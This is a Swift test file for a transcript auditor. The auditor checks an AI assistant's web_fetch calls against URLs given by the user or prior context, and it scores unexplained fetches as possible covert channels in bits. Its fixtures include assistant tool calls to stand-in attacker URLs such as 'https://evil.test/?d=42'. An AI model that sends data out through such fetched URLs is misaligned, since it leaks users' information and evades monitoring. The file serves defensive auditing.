import Conversations
import Encodings
import HarnessModel
import Testing

@Suite struct TranscriptTests {
  /// Reads a text in chunks of a size; problems that end the reading are the last item.
  static func read(
    _ text: String, chunk: Int = .max, limit: Int = 1 << 20
  ) -> [TranscriptReader.Item] {
    read(bytes: Array(text.utf8), chunk: chunk, limit: limit)
  }

  static func read(
    bytes: [UInt8], chunk: Int = .max, limit: Int = 1 << 20
  ) -> [TranscriptReader.Item] {
    var reader = TranscriptReader(limit: limit)
    var items: [TranscriptReader.Item] = []
    do {
      var start = 0
      while start < bytes.count {
        let end = chunk < bytes.count - start ? start + chunk : bytes.count
        try bytes[start..<end].withUnsafeBufferPointer { try reader.feed($0) { items.append($0) } }
        start = end
      }
      try reader.finish { items.append($0) }
    } catch let problem as TranscriptProblem {
      items.append(.failure(problem))
    } catch {
      Issue.record("foreign error: \(error)")
    }
    return items
  }

  static let response = """
    {"id":"msg_1","role":"assistant","content":[{"type":"server_tool_use","id":"s1","name":"web_fetch",\
    "input":{"url":"https://e.test/a"}},{"type":"web_fetch_tool_result","tool_use_id":"s1","content":\
    {"type":"web_fetch_result","url":"https://e.test/a","content":{"type":"document","source":{"type":"text",\
    "media_type":"text/plain","data":"next: https://e.test/b"}}}},{"type":"server_tool_use","id":"s2",\
    "name":"web_fetch","input":{"url":"https://evil.test/?d=42"}}],"usage":{"server_tool_use":\
    {"web_fetch_requests":3}}}
    """
  static let request = #"{"messages":[{"role":"user","content":"read https://e.test/a"}]}"#
  static let stream = """
    event: message_start
    data: {"type":"message_start","message":{"id":"msg_1","role":"assistant","content":[]}}

    event: content_block_start
    data: {"type":"content_block_start","index":0,"content_block":{"type":"server_tool_use","id":"s1","name":"web_fetch","input":{}}}

    event: content_block_delta
    data: {"type":"content_block_delta","index":0,"delta":{"type":"input_json_delta","partial_json":"{\\"url\\":\\"https://e."}}

    : a comment
    event: content_block_delta
    data: {"type":"content_block_delta","index":0,
    data: "delta":{"type":"input_json_delta","partial_json":"test/a\\"}"}}

    event: content_block_stop
    data: {"type":"content_block_stop","index":0}

    event: content_block_start
    data: {"type":"content_block_start","index":1,"content_block":{"type":"web_fetch_tool_result","tool_use_id":"s1","content":{"type":"web_fetch_result","url":"https://e.test/a","content":{"type":"document","source":{"type":"text","data":"next: https://e.test/b"}}}}}

    event: content_block_stop
    data: {"type":"content_block_stop","index":1}

    event: content_block_start
    data: {"type":"content_block_start","index":2,"content_block":{"type":"server_tool_use","id":"s2","name":"web_fetch"}}

    event: content_block_delta
    data: {"type":"content_block_delta","index":2,"delta":{"type":"input_json_delta","partial_json":"{\\"url\\":\\"https://evil.test/?d=42\\"}"}}

    event: content_block_stop
    data: {"type":"content_block_stop","index":2}

    event: message_delta
    data: {"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"server_tool_use":{"web_fetch_requests":3}}}

    event: message_stop
    data: {"type":"message_stop"}


    """

  struct Form: Sendable, CustomTestStringConvertible {
    var name: String
    var text: String
    var hasPrompt: Bool
    var testDescription: String { name }
  }

  static let forms = [
    Form(name: "a response", text: response, hasPrompt: false),
    Form(name: "a stream of events", text: stream, hasPrompt: false),
    Form(
      name: "a stream with carriage returns", text: stream.replacing("\n", with: "\r\n"), hasPrompt: false),
    Form(
      name: "a line of batch results",
      text: #"{"custom_id":"msg_1","result":{"type":"succeeded","message":"# + response + "}}\n",
      hasPrompt: false),
    Form(
      name: "a pair over many lines", text: "\n{\"request\":\n\(request),\n\n\"response\":\n\(response)}\n",
      hasPrompt: true),
    Form(
      name: "an array of pairs", text: "[ {\"request\":\(request),\"response\":\(response)} ]",
      hasPrompt: true),
    Form(name: "a byte order mark", text: "\u{FEFF}" + response, hasPrompt: false),
  ]

  @Test(arguments: forms)
  func `every form gives the same fetches, however it is cut into chunks`(_ form: Form) throws {
    let whole = Self.read(form.text)
    #expect(whole.count == 1)
    for chunk in [1, 7, 64, 1_000] { #expect(Self.read(form.text, chunk: chunk) == whole) }
    let entry = try #require(whole.first).get()
    #expect(entry.name == "msg_1" && entry.hasPrompt == form.hasPrompt && entry.isComplete)
    let withPrompt =
      form.hasPrompt ? entry : entry.with(prompt: try Conversation(parsing: Array(Self.request.utf8)))
    let report = TranscriptAudit().report(on: withPrompt)
    #expect(report.fetches.map(\.url) == ["https://e.test/a", "https://evil.test/?d=42"])
    #expect(report.fetches.map(\.verdict) == [.explained, .unexplained])
    #expect(report.fetches.map(\.outcome) == [.served, .unknown])
    #expect(report.hidden == 1)
    #expect(report.fetches[0].ruling?.witness?.source == .user)
    #expect(report.fetches[0].choices == 1 && report.fetches[0].bits == 0)
    // One of two URLs was chosen, and 13 characters behind "https://e" were free.
    let expected = 1 + OpenChannel.bits(prefix: 9, limit: 23)
    #expect(abs(report.fetches[1].bits - expected) < 1e-9)
    let alone = TranscriptAudit().report(on: entry)
    if !form.hasPrompt { #expect(alone.fetches.map(\.verdict) == [.noPrompt, .noPrompt]) }
  }

  @Test func `refusals, failures and forbidden fetches are told apart`() throws {
    let tool = ToolDefinition(
      name: "web_fetch",
      json: #"{"type":"web_fetch_20260318","name":"web_fetch","max_uses":5,"allowed_domains":["e.test"]}"#)
    func failure(_ id: ForeignText, _ code: ForeignText) -> ContentBlock {
      .webFetchToolResult(
        WebFetchToolResult(
          toolUseID: id, .failure(ToolFailure(type: "web_fetch_tool_result_error", code: code))))
    }
    let entry = TranscriptEntry(
      line: 1,
      conversation: Conversation(
        tools: [tool],
        turns: [
          Turn(.user, text: "https://e.test/a https://other.test/"),
          Turn(
            .assistant,
            [
              .fetch("1", "https://e.test/a"), failure("1", "url_not_in_prior_context"),
              .fetch("2", "https://evil.test/"), failure("2", "url_not_in_prior_context"),
              .fetch("3", "https://other.test/"), .page("3", "https://other.test/", "x"),
              .fetch("4", "https://e.test/%61"), failure("4", "url_not_accessible"),
              .fetch("5", "https://e.test/a"), failure("5", "unavailable"),
              .fetch("6", "https://e.test/a"), .page("6", "https://e.test/a", "x"),
            ]),
        ]),
      hasPrompt: true)
    let audit = TranscriptAudit { policy in
      #expect(policy.allowed == ["e.test"])
      return { url in
        url.bytes.starts(with: "https://e.test/".utf8)
          ? Expectation(.must(.allow), because: .entryCovers)
          : Expectation(.must(.deny), because: .noEntryCovers)
      }
    }
    let verdicts = audit.report(on: entry).fetches.map(\.verdict)
    #expect(verdicts == [.overblocked, .refused, .forbidden, .lenient, .explained, .forbidden])
    #expect(audit.report(on: entry).fetches[1].bits == 0)
  }

  @Test func `thousands of unexplained fetches in one conversation take no more than a moment`() {
    let fetches = (0..<3_000).flatMap { number -> [ContentBlock] in
      [
        .said(ForeignText("https://said.test/\(number)")),
        .fetch("f", URLText("https://evil.test/\(number)")),
      ]
    }
    let entry = TranscriptEntry(
      line: 1, conversation: Conversation(turns: [Turn(.user, text: "hi"), Turn(.assistant, fetches)]),
      hasPrompt: true)
    let report = TranscriptAudit().report(on: entry)
    #expect(report.fetches.count == 3_000)
    #expect(report.fetches.allSatisfy { $0.verdict == .unexplained })
  }

  @Test func `tools of other names are audited if asked for`() {
    let entry = TranscriptEntry(
      line: 1,
      conversation: Conversation(
        turns: [
          Turn(.user, text: "hi"),
          Turn(.assistant, [.call("1", "browse", #"{"address":"https://evil.test/"}"#)]),
        ]),
      hasPrompt: true)
    #expect(TranscriptAudit().report(on: entry).fetches.isEmpty)
    let audit = TranscriptAudit(tools: ["browse": "address"])
    #expect(audit.report(on: entry).fetches.map(\.verdict) == [.unexplained])
  }

  @Test(arguments: [
    ("{\"all\"}", "none"), ("none", "\"none\""), ("only", "{\"only\":[\"x\"]}"),
    ("except", "{\"except\":[\"x\"]}"),
  ])
  func `url_sources of the request decide`(_ name: String, _ json: String) {
    let tool = ToolDefinition(
      name: "web_fetch",
      json: ForeignText(
        #"{"type":"web_fetch_20260318","name":"web_fetch","url_sources":{"client_tool_results":"#
          + (name == "{\"all\"}" ? "\"all\"" : json) + "}}"))
    let entry = TranscriptEntry(
      line: 1,
      conversation: Conversation(
        tools: [tool],
        turns: [
          Turn(.assistant, [.call("1", "x")]), Turn(.user, [.result("1", "https://e.test/")]),
          Turn(.assistant, [.fetch("2", "https://e.test/")]),
        ]),
      hasPrompt: true)
    let isAllowed = name == "{\"all\"}" || name == "only"
    #expect(
      TranscriptAudit().report(on: entry).fetches.map(\.verdict) == [isAllowed ? .explained : .unexplained])
  }

  struct Bad: Sendable, CustomTestStringConvertible {
    var text: String
    var kind: TranscriptProblem.Kind
    var line: Int
    var place = ""
    var testDescription: String { text }
  }

  @Test(arguments: [
    Bad(text: "", kind: .cutOff, line: 1), Bad(text: " \n\n", kind: .cutOff, line: 1),
    Bad(text: "hello, world", kind: .format, line: 1), Bad(text: "\n\nabc", kind: .format, line: 1),
    Bad(text: "{\n\n", kind: .cutOff, line: 1), Bad(text: "[", kind: .cutOff, line: 1),
    Bad(text: "{}", kind: .content, line: 1),
    Bad(text: "\n{\"messages\":[{}]}", kind: .content, line: 2, place: "messages.0.role"),
    Bad(text: "{\"messages\":[]}\n7\n", kind: .format, line: 2),
    Bad(text: "{\"a\":\"" + String(repeating: "x", count: 2 << 20) + "\"}", kind: .tooLarge, line: 1),
    Bad(text: "data: " + String(repeating: "x", count: 2 << 20), kind: .tooLarge, line: 1),
    Bad(text: "data: {\n\n", kind: .content, line: 1, place: "byte 2"),
  ])
  func `a bad transcript is named by its line, and by what can be done`(_ row: Bad) {
    guard case .failure(let problem)? = Self.read(row.text).last else {
      Issue.record("no problem")
      return
    }
    #expect(problem.kind == row.kind && problem.line == row.line, "\(problem)")
    if !row.place.isEmpty { #expect(problem.place == row.place) }
  }

  @Test func `what follows a bad object is still read`() throws {
    let items = Self.read("\(Self.request)\n{\"messages\":1}\n\(Self.request)\n")
    #expect(items.count == 3)
    #expect(throws: TranscriptProblem.self) { try items[1].get() }
    #expect(try items[2].get().line == 3)
  }

  @Test func `a stream that was cut off gives what there is`() throws {
    let end = try #require(Self.stream.firstRange(of: "event: message_delta"))
    let entry = try #require(Self.read(String(Self.stream[..<end.lowerBound])).first).get()
    #expect(!entry.isComplete && entry.countedFetches == nil)
    #expect(TranscriptAudit().report(on: entry).fetches.count == 2)
  }

  @Test func `requests of a batch are found again by their names`() throws {
    let lines = (0..<5).map {
      #"{"custom_id":"c\#($0)","params":{"messages":[{"role":"user","content":"\#($0)"}]}}"#
    }
    let text = Array((lines.joined(separator: "\n") + "\n").utf8)
    var index = RequestIndex()
    for byte in text { try [byte].withUnsafeBufferPointer { try index.feed($0) } }
    try index.finish()
    let place = try #require(index.place(of: "c3"))
    let object = Array(text[place.offset..<place.offset + place.count])
    #expect(try RequestIndex.conversation(in: object)?.turns == [Turn(.user, text: "3")])
    #expect(index.place(of: "c9") == nil && index.place(of: nil) == nil)
  }
}
